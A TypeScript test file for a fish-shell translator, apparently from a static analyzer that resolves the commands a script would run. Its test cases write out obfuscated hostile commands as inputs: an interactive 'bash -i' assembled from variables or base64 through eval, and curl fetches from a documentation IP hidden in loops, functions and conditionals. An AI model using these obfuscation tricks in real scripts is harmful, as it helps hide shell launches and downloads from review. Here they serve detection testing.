import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { known, render, textOf } from '../../value.ts';
import { fishToShell } from './fish.ts';
import { shell } from './shell.ts';

function commands(text: string): readonly string[] {
  const budget = { steps: 500_000, decodedBytes: 1_000_000, commands: 1_000 };
  const reading = shell.read({
    text,
    args: [known('/run.fish'), known('one')],
    env: new Map(),
    cwd: '/',
    readFile: () => undefined,
    budget,
  });
  return [
    ...reading.commands.map(
      (each) => each.argv.map(render).join(' ') + each.redirects.map((to) => ` ${to.op}${render(to.target)}`).join(''),
    ),
    ...reading.nested.map((each) => `nested: ${each.text.trim()}`),
  ];
}

describe('fish', () => {
  test.each<readonly [string, string]>([
    ['set c bash; $c -i', 'bash -i'],
    ['set -gx URL http://203.0.113.9/x\ncurl -s $URL', 'curl -s http://203.0.113.9/x'],
    ['set a ba\nset b sh\n$a$b -i', 'bash -i'],
    ['eval (echo YmFzaCAtaQ== | base64 -d)', 'nested: bash -i'],
    ['curl (echo http://203.0.113.9/x)', 'curl http://203.0.113.9/x'],
    ['if test -f /x\n  echo no\nelse\n  curl http://203.0.113.9/x\nend', 'curl http://203.0.113.9/x'],
    [
      'if test -f /x; curl http://203.0.113.9/a; else if true; curl http://203.0.113.9/b; end',
      'curl http://203.0.113.9/b',
    ],
    ['function go\n  curl $argv[1]\nend\ngo http://203.0.113.9/x', 'curl http://203.0.113.9/x'],
    ['for f in a b\n  curl http://203.0.113.9/$f\nend', 'curl http://203.0.113.9/b'],
    ['while true\n  curl http://203.0.113.9/x\n  sleep 60\nend', 'curl http://203.0.113.9/x'],
    ['begin; curl http://203.0.113.9/x; end >/dev/null', 'curl http://203.0.113.9/x >/dev/null'],
    [
      'switch $argv[1]\n case one two\n  curl http://203.0.113.9/x\n case "*"\n  true\nend',
      'curl http://203.0.113.9/x',
    ],
    ['test -d /x; and curl http://203.0.113.9/x', 'curl http://203.0.113.9/x'],
    ['set l bash -i\n$l[1] $l[2]', 'bash -i'],
    ['not curl http://203.0.113.9/x # a comment', 'curl http://203.0.113.9/x'],
  ])('%j', (code, wanted) => {
    expect(commands(`#!/usr/bin/env fish\n${code}\n`)).toContain(wanted);
  });
  test('lines stay lines', () => {
    const code = 'set x a\\\n  b\nif true; echo $x; end # so\n\n# nothing\necho end';
    expect(fishToShell(code).split('\n')).toHaveLength(code.split('\n').length);
  });
  test('any text is translated', () => {
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom('set ', 'x ', '(', ')', '"', "'", 'end', '\n', ';', '$argv[1]', '\\', 'if ')),
        (pieces) => {
          expect(typeof textOf(known(fishToShell(pieces.join(''))))).toBe('string');
        },
      ),
    );
  });
});
